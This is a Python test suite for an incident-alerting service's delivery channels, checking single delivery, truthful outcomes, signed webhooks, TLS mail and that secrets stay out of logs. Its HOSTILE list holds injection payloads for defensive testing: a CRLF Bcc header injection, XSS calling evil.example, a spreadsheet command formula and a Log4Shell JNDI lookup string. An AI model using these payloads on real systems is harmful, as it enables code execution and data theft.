"""What every way to people besides Slack is held to: sent once, told truly, inert, and silent about secrets."""

import json
import logging
import ssl
import subprocess
import traceback
from collections.abc import AsyncIterator, Callable
from contextlib import AsyncExitStack
from pathlib import Path
from typing import Any

import msgspec
import pytest

from alerting.delivery.apprise import AppriseWay
from alerting.delivery.email import EmailWay, Server
from alerting.delivery.pagerduty import PagerDutyWay
from alerting.delivery.phone import PhoneWay
from alerting.delivery.ways import Message, Outcome, Way
from alerting.delivery.webhook import WebhookWay
from alerting.facts import Facts
from alerting.view import IncidentView, ShownPost
from stream.sources.guard import GuardedClient, Rules
from stream.sources.signing import Verifier
from tests.fakes.hooks import FakeHooks
from tests.fakes.smtp import FakeSmtp

SECRETS = ("canary-routing-key-1", "canary-signing-secret", "canary-older-secret", "canary-mail-password")
NOW_MS = 1_772_449_200_000
VIEW = IncidentView(
    brand="Acme",
    incident="acme-0",
    scenario="backlash",
    severity="critical",
    opened_ms=NOW_MS,
    facts=Facts(mentions=412, expected=35, volume_ratio_milli=11_770),
    posts=(ShownPost("They are down again", "eve"),),
)
HOSTILE = (
    "x\r\nBcc: eve@evil.example\r\n\r\nhello",
    "<script>alert(1)</script><img src=//evil.example/x onerror=x>",
    "<!channel> <http://evil.example|bank> [bank](http://evil.example)",
    "\u202egnp.exe \u200bzero \x1b[2J\x00 \x07",
    "=?utf-8?q?evil?= =cmd|' /C calc'!A0 {{7*7}} ${jndi:ldap://evil.example}",
    "http://evil.example/" + "a" * 5000,
    "\ud800 lone \U000e0041 tag",
)


class Bench:
    """A way on a fake of its own: where its pages go, and what arrived there."""

    def __init__(self, way: Way, fake: FakeHooks | FakeSmtp, to: str, *, kind: str) -> None:
        self.way, self.fake, self.to, self.kind = way, fake, to, kind

    def message(self, view: IncidentView | None = VIEW, page_id: str = "p1", line: str = "Paged: anna.") -> Message:
        """A page on this way."""
        incident = view.incident if view is not None else "acme-0"
        return Message(page_id=page_id, incident=incident, kind="page", to=self.to, text="", view=view, line=line)

    async def post(self, fault: str = "", **message: Any) -> Outcome:
        """Post a page while something goes wrong."""
        self.fake.faults = [fault] if fault else []
        return await self.way.post(self.message(**message))

    @property
    def arrived(self) -> int:
        """Pages that were taken."""
        return len(self.fake.taken)

    @property
    def bytes(self) -> str:
        """All that was taken, as it came."""
        if isinstance(self.fake, FakeHooks):
            return "\n".join(one.body.decode() for one in self.fake.taken)
        return "\n".join(one.decode() for one in self.fake.taken)


PATIENCE_S = 1.0
"""How long a way waits: a busy machine must not make a page late that nothing else does."""


def _bench(kind: str, fake: FakeHooks | FakeSmtp) -> Bench:
    if isinstance(fake, FakeSmtp):
        server = Server("127.0.0.1", fake.port, "tocsin@corp.example", "none", timeout_s=PATIENCE_S)
        return Bench(EmailWay(server, lambda: NOW_MS), fake, "anna@corp.example", kind=kind)
    url = f"{fake.base_url}hook"
    client = GuardedClient(Rules(plain=("127.0.0.1",)), total_s=PATIENCE_S)
    pagerduty = PagerDutyWay(client, {"pr": lambda: SECRETS[0]}, fake.base_url)
    webhook = WebhookWay(client, {url: [lambda: SECRETS[1], lambda: SECRETS[2]]}, lambda: NOW_MS)
    apprise = AppriseWay({"sms": lambda: f"json://127.0.0.1:{fake.port}/{SECRETS[0]}"}, timeout_s=PATIENCE_S)
    ways: dict[str, tuple[Way, str]] = {
        "pagerduty": (pagerduty, "pr"),
        "webhook": (webhook, url),
        "apprise": (apprise, "sms"),
        "phone by pagerduty": (PhoneWay(pagerduty, "pr"), "+31 6 1234 5678"),
        "phone by webhook": (PhoneWay(webhook, url), "+31 6 1234 5678"),
        "phone by apprise": (PhoneWay(apprise, "sms"), "+31 6 1234 5678"),
    }
    way, to = ways[kind]
    return Bench(way, fake, to, kind=kind)


HTTP = ("pagerduty", "webhook", "phone by pagerduty", "phone by webhook")
APPRISE = ("apprise", "phone by apprise")
EVERY = ("email", *HTTP, *APPRISE)


@pytest.fixture
async def bench(request: pytest.FixtureRequest) -> AsyncIterator[Bench]:
    """The way that the test is about."""
    async with AsyncExitStack() as stack:
        fake = await stack.enter_async_context(FakeSmtp() if request.param == "email" else FakeHooks())
        yield _bench(request.param, fake)


def on(*kinds: str) -> pytest.MarkDecorator:
    """Run a test on these ways."""
    return pytest.mark.parametrize("bench", kinds, indirect=True)


# ---- sent once, and told truly


@on(*EVERY)
async def test_a_page_arrives_once_and_says_what_it_is_about(bench: Bench) -> None:
    outcome = await bench.post()
    assert outcome.kind == "sent"
    assert outcome.ts.startswith("p1")
    assert bench.arrived == 1
    said = _read(bench)
    assert "Acme" in said
    assert "412 posts" in said
    if bench.kind.startswith("phone by") and bench.kind != "phone by apprise":
        assert bench.fake.taken[0].json.get("phone", "") or "+31 6 1234 5678" in said  # type: ignore[union-attr]


def _read(bench: Bench) -> str:
    """What a person sees."""
    if isinstance(bench.fake, FakeSmtp):
        return "\n".join(str(part.get_content()) for one in bench.fake.letters for part in one.iter_parts())
    return "\n".join(json.dumps(one.json, ensure_ascii=False) for one in bench.fake.taken)


OVER_HTTP = {
    "http_400": ("permanent", 0),
    "http_404": ("permanent", 0),
    "redirect": ("permanent", 0),
    "limited": ("not_sent", 0),
    "http_500": ("unknown", 0),
    "http_503": ("unknown", 0),
    "timeout": ("unknown", 0),
    "timeout_after": ("unknown", 1),
    "lost_reply": ("unknown", 1),
    "reset": ("unknown", 0),
    "endless": ("sent", 1),
}
BY_MAIL = {
    "mail_451": ("not_sent", 0),
    "mail_550": ("permanent", 0),
    "rcpt_450": ("not_sent", 0),
    "rcpt_550": ("permanent", 0),
    "data_451": ("not_sent", 0),
    "data_554": ("permanent", 0),
    "timeout_before": ("not_sent", 0),
    "reset": ("not_sent", 0),
    "timeout_after": ("unknown", 1),
    "lost_reply": ("unknown", 1),
}


@on("pagerduty", "webhook", "phone by webhook")
@pytest.mark.parametrize(("fault", "expected"), OVER_HTTP.items())
async def test_an_outcome_over_http_is_what_can_be_known(bench: Bench, fault: str, expected: tuple[str, int]) -> None:
    """Nothing that may have arrived is called not sent, and nothing that did not is called sent."""
    outcome = await bench.post(fault)
    assert (outcome.kind, bench.arrived) == expected
    assert bench.fake.fired == [fault]
    assert bench.fake.connections == 1, "never again by itself, and never elsewhere"
    assert "canary" not in outcome.detail
    if fault == "limited":
        assert outcome.retry_ms == 7000


@on("email")
@pytest.mark.parametrize(("fault", "expected"), BY_MAIL.items())
async def test_an_outcome_by_mail_is_what_can_be_known(bench: Bench, fault: str, expected: tuple[str, int]) -> None:
    outcome = await bench.post(fault)
    assert (outcome.kind, bench.arrived) == expected
    assert bench.fake.fired == [fault]
    assert "canary" not in outcome.detail


@on(*APPRISE)
@pytest.mark.parametrize("fault", ["http_400", "http_500", "timeout_after", "lost_reply"])
async def test_apprise_tells_no_reasons_so_what_failed_is_unknown(bench: Bench, fault: str) -> None:
    assert (await bench.post(fault)).kind == "unknown"
    assert fault in bench.fake.fired


@on("email", *HTTP)
async def test_where_nobody_listens_nothing_was_sent(bench: Bench) -> None:
    await bench.fake.__aexit__()
    outcome = await bench.post()
    assert outcome.kind == "not_sent"
    assert outcome.retry_ms > 0


@on("email", *HTTP)
async def test_a_page_that_is_posted_again_is_the_same_page(bench: Bench) -> None:
    """After a lost reply its receiver can tell: the same key, id or Message-ID."""
    assert (await bench.post("lost_reply")).kind == "unknown"
    assert (await bench.post()).kind == "sent"
    assert bench.arrived == 2
    assert len(bench.fake.keys) == 1
    await bench.post(page_id="p2")
    assert len(bench.fake.keys) == 2


@on(*EVERY)
async def test_what_cannot_be_read_back_is_not_found(bench: Bench) -> None:
    """And whoever is asked again says by `settles` what to do about it."""
    await bench.post()
    assert await bench.way.find(bench.message(), 0) is None
    assert bench.way.settles == ("never" if bench.kind in ("email", *APPRISE) else "repeat")


@on(*EVERY)
async def test_a_place_that_is_not_set_up_gets_nothing(bench: Bench) -> None:
    if bench.kind.startswith("phone"):
        inner = bench.way._ringing  # type: ignore[attr-defined]
        bench = Bench(PhoneWay(inner, "elsewhere"), bench.fake, bench.to, kind=bench.kind)
    outcome = await bench.way.post(msgspec.structs.replace(bench.message(), to="elsewhere"))
    assert outcome.kind == "permanent"
    assert bench.fake.connections == 0


# ---- what became of it


@on(*HTTP)
async def test_what_became_of_an_incident_is_told_once_each(bench: Bench) -> None:
    sent = await bench.post()
    for status in ("open", "acknowledged", "acknowledged", "contained", "closed", "closed"):
        now = msgspec.structs.replace(VIEW, status=status)
        edited = await bench.way.edit(sent.channel, sent.ts, bench.message(now))
        assert edited == Outcome("sent", sent.channel, sent.ts)
    told = [one.json for one in bench.fake.taken[1:]]  # type: ignore[union-attr]
    if "pagerduty" in bench.kind:
        assert [(one["event_action"], one["dedup_key"]) for one in told] == [("acknowledge", "p1"), ("resolve", "p1")]
    else:
        assert [(one["event"], one["id"]) for one in told] == [("status", "p1-acknowledged"), ("status", "p1-closed")]


@on(*HTTP)
async def test_a_change_that_could_not_be_told_is_told_the_next_time(bench: Bench) -> None:
    sent = await bench.post()
    over = bench.message(msgspec.structs.replace(VIEW, status="closed"))
    bench.fake.faults = ["http_500"]
    assert (await bench.way.edit(sent.channel, sent.ts, over)).kind == "unknown"
    assert (await bench.way.edit(sent.channel, sent.ts, over)).kind == "sent"
    assert bench.arrived == 2


@on(*HTTP)
async def test_somebody_called_in_after_an_acknowledgement_is_not_told_to_rest(bench: Bench) -> None:
    """Nor after a restart, when nothing is remembered but the `ts`."""
    taken = msgspec.structs.replace(VIEW, status="acknowledged")
    sent = await bench.post(view=taken)
    anew = _bench(bench.kind, bench.fake)
    await anew.way.edit(sent.channel, sent.ts, anew.message(taken))
    assert bench.arrived == 1


@on("email", *APPRISE)
async def test_what_was_sent_for_good_is_left_alone(bench: Bench) -> None:
    sent = await bench.post()
    over = bench.message(msgspec.structs.replace(VIEW, status="closed"))
    assert (await bench.way.edit(sent.channel, sent.ts, over)).kind == "sent"
    assert bench.arrived == 1


# ---- hostile words, and secrets


@on(*EVERY)
@pytest.mark.parametrize("text", HOSTILE)
async def test_hostile_words_do_nothing(bench: Bench, text: str) -> None:
    """In every field that comes from outside: no header, no element, no address that can be pressed, no hidden sign."""
    view = msgspec.structs.replace(
        VIEW, brand=text, scenario=text, why=text, path=(text,), posts=(ShownPost(text, text, text, text),)
    )
    assert (await bench.post(view=view, line=text)).kind == "sent"
    shown = _read(bench)
    assert "http://evil" not in shown
    for hidden in "\u202e\u200b\x1b\x00\x07\ud800":
        assert hidden not in shown
    if isinstance(bench.fake, FakeSmtp):
        assert bench.fake.to == [["anna@corp.example"]]
        (letter,) = bench.fake.letters
        assert letter["Bcc"] is None
        assert len(letter["Subject"]) <= 150
        assert "evil.example" not in letter["Subject"]
        html = letter.get_body(("html",)).get_content()  # type: ignore[union-attr]
        for element in ("<script", "<img", "<a ", "<!channel", "href"):
            assert element not in html


@on(*EVERY)
@pytest.mark.parametrize("fault", ["", "http_400", "http_500", "lost_reply", "rcpt_550"])
async def test_no_secret_shows(bench: Bench, fault: str, caplog: pytest.LogCaptureFixture) -> None:
    """Neither in a log of ours or of a library's, nor in an outcome, nor in a `repr`."""
    caplog.set_level(logging.DEBUG)
    outcome = await bench.post(fault if _strikes(bench, fault) else "")
    shown = caplog.text + repr(outcome) + repr(bench.way) + repr(vars(bench.way))
    assert not [secret for secret in SECRETS if secret in shown]


def _strikes(bench: Bench, fault: str) -> bool:
    return fault.startswith("rcpt_") if bench.kind == "email" else not fault.startswith("rcpt_")


# ---- mail


@pytest.fixture(scope="module")
def certificate(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A certificate for this machine alone, made now."""
    folder = tmp_path_factory.mktemp("tls")
    made = ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes"]
    names = ["-days", "2", "-subj", "/CN=test", "-addext", "subjectAltName=IP:127.0.0.1"]
    subprocess.run([*made, *names, "-keyout", folder / "key", "-out", folder / "crt"], check=True, capture_output=True)
    return folder


def _mailing(fake: FakeSmtp, folder: Path, password: Callable[[], str], *, trusted: bool = True) -> EmailWay:
    server = Server("127.0.0.1", fake.port, "tocsin@corp.example", "starttls", "tocsin", password, 2.0)
    trust = ssl.create_default_context(cafile=str(folder / "crt")) if trusted else ssl.create_default_context()
    return EmailWay(server, lambda: NOW_MS, tls=trust)


async def test_letters_go_over_a_private_connection_of_a_server_that_is_known(certificate: Path) -> None:
    serving = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    serving.load_cert_chain(certificate / "crt", certificate / "key")
    page = Message(page_id="p1", incident="acme-0", kind="page", to="anna@corp.example", text="", view=VIEW)
    async with FakeSmtp(tls=serving, login=("tocsin", SECRETS[3])) as fake:
        assert (await _mailing(fake, certificate, lambda: SECRETS[3]).post(page)).kind == "sent"
        assert fake.encrypted == [True]
        refused = await _mailing(fake, certificate, lambda: "wrong-password").post(page)
        assert (refused.kind, refused.detail) == ("permanent", "smtp_535")
        assert (await _mailing(fake, certificate, lambda: SECRETS[3], trusted=False).post(page)).kind == "not_sent"
        assert len(fake.taken) == 1


async def test_a_server_without_starttls_gets_neither_letter_nor_password(certificate: Path) -> None:
    page = Message(page_id="p1", incident="acme-0", kind="page", to="anna@corp.example", text="", view=VIEW)
    async with FakeSmtp() as fake:
        assert (await _mailing(fake, certificate, lambda: SECRETS[3]).post(page)).kind == "permanent"
        assert fake.taken == []


async def test_letters_of_an_incident_lie_together() -> None:
    async with FakeSmtp() as fake:
        bench = _bench("email", fake)
        await bench.post()
        await bench.post(page_id="p2")
        await bench.post(view=msgspec.structs.replace(VIEW, incident="acme-1"), page_id="p3")
        first, second, other = fake.letters
        assert first["Message-ID"] == "<p1@corp.example>"
        assert first["In-Reply-To"] == second["References"] != other["References"]
        assert first["Auto-Submitted"] == "auto-generated"
        assert {part.get_content_type() for part in first.iter_parts()} == {"text/plain", "text/html"}


@pytest.mark.parametrize(
    "to", ["a@b@c.example", "a,b@c.example", "a\r\n@c.example", "a b@c.example", "@c.example", "a@", "ä@c.example"]
)
async def test_what_is_no_mailbox_gets_no_letter(to: str) -> None:
    async with FakeSmtp() as fake:
        bench = Bench(_bench("email", fake).way, fake, to, kind="email")
        assert (await bench.post()).kind == "permanent"
        assert fake.connections == 0


# ---- PagerDuty


@pytest.mark.parametrize(
    ("severity", "theirs"), [("low", "info"), ("medium", "warning"), ("high", "error"), ("critical", "critical")]
)
async def test_an_event_is_what_pagerduty_asks_for(severity: str, theirs: str) -> None:
    async with FakeHooks() as fake:
        await _bench("pagerduty", fake).post(view=msgspec.structs.replace(VIEW, severity=severity))
        (event,) = fake.taken
        assert event.path == "/v2/enqueue"
        assert event.json["routing_key"] == SECRETS[0]
        assert (event.json["event_action"], event.json["dedup_key"]) == ("trigger", "p1")
        payload = event.json["payload"]
        assert payload["severity"] == theirs
        assert len(payload["summary"]) <= 1024
        assert {"summary", "source", "severity"} <= set(payload)


# ---- webhooks


async def test_a_webhook_is_signed_with_each_live_secret() -> None:
    async with FakeHooks() as fake:
        await _bench("webhook", fake).post()
        (taken,) = fake.taken
        assert taken.headers["x-tocsin-id"] == taken.json["id"] == "p1"
        signatures = taken.headers["x-signature"].split(",")
        assert len(signatures) == 2
        for secret, signature in zip(SECRETS[1:3], signatures, strict=True):
            Verifier([secret]).check(taken.headers["x-timestamp"], signature, taken.body, NOW_MS)


async def test_an_error_of_a_way_holds_no_secret_even_with_its_trace() -> None:
    """A traceback is printed by whoever runs the service, not by us."""
    way = PagerDutyWay(GuardedClient(), {"pr": lambda: SECRETS[0]}, "https://127.0.0.1/")
    page = Message(page_id="p1", incident="acme-0", kind="page", to="pr", text="", view=VIEW)
    try:
        outcome = await way.post(page)
    except Exception:
        outcome = Outcome("unknown", detail=traceback.format_exc())
    assert outcome == Outcome("permanent", detail="it lies inside a private network")
